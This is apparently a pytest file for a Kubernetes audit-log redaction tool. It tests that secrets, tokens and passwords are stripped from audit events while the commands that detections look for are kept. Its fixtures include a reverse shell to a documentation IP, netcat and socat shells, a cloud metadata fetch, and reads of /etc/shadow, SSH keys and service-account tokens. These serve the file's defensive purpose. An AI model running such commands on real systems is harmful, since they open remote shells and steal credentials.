"""What is kept of an audit event: who did what to which object; and of commands what detections look for."""

import json

import pytest

from complyk8s import redact
from complyk8s.ingest.rescue import rescue
from complyk8s.redact import commands

MARK = redact.MARK
WORD = "Zk3vQ8tLm2xP"


def event(**more):
    return {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse", "auditID": "a", "stage": "ResponseComplete", "verb": "create",
        "requestURI": "/api/v1/namespaces/b/things/a", "requestReceivedTimestamp": "2026-11-02T10:00:00.000000Z", "stageTimestamp": "2026-11-02T10:00:00.000000Z", **more,
    }  # fmt: skip


@pytest.mark.parametrize(
    "asked",
    [
        {"objectRef": {"resource": "secrets"}}, {"objectRef": {"resource": "SECRETS"}}, {"objectRef": [{"resource": "secrets"}]}, {"requestURI": "/api/v1/namespaces/b/secrets/a"},
        {"requestURI": "/api/v1/secrets?limit=1"}, {"requestURI": "/api/v1/watch/namespaces/b/secrets"}, {"requestURI": "/k8s/clusters/c-1/api/v1/namespaces/b/secrets/a"},
        {"requestURI": "/api//v1/namespaces/b/%73ecrets/a"}, {"objectRef": {"resource": "pods"}, "requestURI": "/api/v1/namespaces/b/secrets/a"},
        {"objectRef": {"resource": "serviceaccounts", "subresource": "token"}}, {"requestURI": "/api/v1/namespaces/b/serviceaccounts/a/token"},
        {"objectRef": {"resource": "imagestreams", "subresource": "secrets"}}, {"objectRef": {"resource": "tokenreviews"}}, {"objectRef": {"resource": "oauthclients"}},
    ],
)  # fmt: skip
def test_no_body_of_a_secret_is_kept_whoever_says_that_it_is_one(asked):
    body = {
        "kind": "X",
        "metadata": {"name": "a", "annotations": {"x": WORD}},
        "u": WORD,
        "spec": {"expirationSeconds": 600, "v": WORD},
    }
    clean = redact.event(
        event(
            **asked,
            requestObject=body,
            responseObject=[WORD],
            responseStatus={"code": 400, "message": f'bad "{WORD}"'},
        )
    )
    assert WORD not in json.dumps(clean)
    assert clean["requestObject"] == {
        "kind": "X",
        "metadata": {"name": "a"},
        "spec": {"expirationSeconds": 600},
    }
    assert clean["responseStatus"] == {"code": 400, "message": MARK}


@pytest.mark.parametrize(
    "uri",
    [
        "/api/v1/namespaces/secrets/pods/a",
        "/api/v1/namespaces/b/pods/secrets",
        "/apis/x.example.com/v1/secretstores/a",
        "/api/v1/namespaces/b/services/secrets/proxy/x",
    ],
)
def test_what_is_only_called_so_keeps_its_body(uri):
    body = {"kind": "Pod", "metadata": {"name": "a"}, "spec": {"nodeName": "n"}}
    assert redact.event(event(requestURI=uri, requestObject=body))["requestObject"] == body


@pytest.mark.parametrize(
    "message",
    [
        'secrets "db" not found', 'secrets "db" already exists', 'secrets "db" is forbidden: User "bob" cannot get resource "secrets" in API group "" in the namespace "shop"',
        'secrets is forbidden: User "system:serviceaccount:a:b" cannot list resource "secrets" in API group "" at the cluster scope',
        'Operation cannot be fulfilled on secrets "db": the object has been modified; please apply your changes to the latest version and try again',
    ],
)  # fmt: skip
def test_messages_that_quote_no_body_are_kept(message):
    status = redact.event(
        event(
            objectRef={"resource": "secrets"},
            responseStatus={"code": 403, "reason": "Forbidden", "message": message},
        )
    )["responseStatus"]
    assert status == {"code": 403, "reason": "Forbidden", "message": message}


def test_names_of_oauth_tokens_are_not_kept():
    name = "sha256~" + WORD * 3
    clean = redact.event(event(objectRef={"resource": "oauthaccesstokens", "name": name}, requestURI=f"/apis/oauth.openshift.io/v1/oauthaccesstokens/{name}",
                               responseObject={"kind": "Status", "details": {"name": name}}, responseStatus={"code": 404, "message": f'oauthaccesstokens.oauth.openshift.io "{name}" not found'}))  # fmt: skip
    assert WORD not in json.dumps(clean) and clean["objectRef"]["resource"] == "oauthaccesstokens"


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('"objectRef":{"resource":"secrets"},"objectRef":{"resource":"pods"}', False), ('"objectRef":{"resource":"pods"},"objectRef":{"resource":"secrets"}', False),
        ('"objectRef":{"resource":"secrets","resource":"pods"}', False), ('"objectRef":{"resource":"pods"},"ObjectRef":{"resource":"secrets"}', False),
        ('"objectRef":{"resource":"pods"},"requestURI":"/api/v1/pods"', False), ('"objectRef":{"resource":"s\\u0065crets"}', False),
        ('"objectRe\\u0066":{"resource":"secrets"}', False), ('"objectRef":{"Resource":"secrets"}', False), ('"objectRef":{"resource":"pods"}', True),
    ],
)  # fmt: skip
def test_a_key_that_is_there_twice_or_spelled_otherwise_costs_the_body(written, kept):
    text = json.dumps(event(requestObject={"u": WORD}))[:-1] + "," + written + "}"
    found = rescue(text)
    assert len(found.events) == 1 and (WORD in found.events[0][0].decode()) == kept


@pytest.mark.parametrize(
    "item",
    [
        "192.0.2.1",
        "2001:db8::1",
        "fe80::1%eth0",
        "10.0.0.1:443",
        "[2001:db8::1]:443",
        "::ffff:10.0.0.1",
        "private",
        "gce-internal-ip",
    ],
)
def test_addresses_are_kept(item):
    assert redact.event(event(sourceIPs=[item]))["sourceIPs"] == [item]


@pytest.mark.parametrize("item", [WORD, f"10.0.0.1 {WORD}", {"x": WORD}, f"fe80::1%{WORD * 9}", 5])
def test_what_is_no_address_is_not(item):
    assert redact.event(event(sourceIPs=["192.0.2.1", item]))["sourceIPs"] == ["192.0.2.1", MARK]


@pytest.mark.parametrize(
    "words",
    [
        ["sh"], ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], ["sh", "-c", "cat /proc/1/environ"], ["curl", "http://169.254.169.254/latest/meta-data/"], ["tar", "cf", "-", "/data"],
        ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"], ["nc", "-e", "/bin/sh", "203.0.113.1", "4444"], ["kubectl", "get", "secrets"], ["tar", "-xmf", "-", "-C", "/tmp"], ["mkfifo", "/tmp/f"], ["ls", "-la", "/"],
        ["cat", "/etc/shadow"], ["sh", "-c", "id -u"],
    ],
)  # fmt: skip
def test_what_detections_look_for_is_kept(words):
    assert commands.kept(words) == words


@pytest.mark.parametrize(
    ("words", "kept"),
    [
        (["redis-cli", "-a", WORD], ["redis-cli", "-a", "[hidden 12]"]), (["mysql", "-uroot", f"-p{WORD}"], ["mysql", "-u[hidden 4]", "-p[hidden 12]"]), (["app", f"--pass={WORD}"], ["app", "--pass=[hidden 12]"]),
        (["sh", "-c", f"echo {WORD} | base64 -d > /etc/x"], ["sh", "-c", "echo [hidden 12] | base64 -d > /etc/x"]), (["python3", "-c", f"import pty; pty.spawn('/bin/sh') # {WORD}"], ["python3", "-c", "import [hidden 3]; pty.spawn('/bin/sh') [hidden 1] [hidden 12]"]),
        (["socat", "tcp:203.0.113.1:4", "exec:/bin/sh"], ["socat", "[hidden 17]", "[hidden 12] exec: /bin/sh"]), (["cat", f"/{WORD}/.ssh/id_rsa"], ["cat", "[hidden 25] .ssh/ id_rsa"]),
    ],
)  # fmt: skip
def test_other_words_are_their_length(words, kept):
    assert commands.kept(words) == kept
    assert WORD not in " ".join(kept)


def test_arguments_stay_where_the_settings_say_so():
    uri = f"/api/v1/namespaces/b/pods/a/exec?command=redis-cli&command=-a&command={WORD}&command=get&command=cart-items"
    assert redact.uri(uri).endswith("command=get&command=[hidden%2010]".replace("%20", "+"))
    kept = redact.uri(uri, keep_arguments=True)
    assert WORD not in kept and kept.endswith("command=get&command=cart-items")
